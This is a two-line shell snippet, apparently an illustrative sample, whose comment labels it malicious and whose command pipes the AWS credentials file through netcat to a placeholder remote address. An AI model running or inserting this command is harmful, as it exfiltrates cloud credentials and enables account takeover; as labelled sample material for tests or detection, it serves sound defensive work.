# Malicious: sends ~/.aws/credentials to a remote host with netcat.
cat ~/.aws/credentials | nc 203.0.113.5 9001
